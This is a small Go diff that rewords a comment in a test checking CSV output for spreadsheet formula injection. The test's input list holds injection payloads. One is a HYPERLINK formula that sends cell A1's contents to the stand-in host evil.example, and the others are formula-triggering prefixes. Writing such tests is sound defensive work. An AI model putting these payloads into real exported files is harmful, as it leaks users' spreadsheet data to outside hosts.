@@ -10,8 +10,8 @@ import (
 	"github.com/starling-grid/starling/agent/control"
 )
 
-// No cell of a file for spreadsheets is one that they would compute, whatever a project
-// calls its tasks; and readers of RFC 4180 find all columns in each line.
+// Spreadsheets compute no cell of a file, whatever names a project gives to its tasks. Readers of
+// RFC 4180 find all columns in each line.
 func TestCSVIsSafeForSpreadsheets(t *testing.T) {
 	evil := []string{
 		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "\x00=1+1",
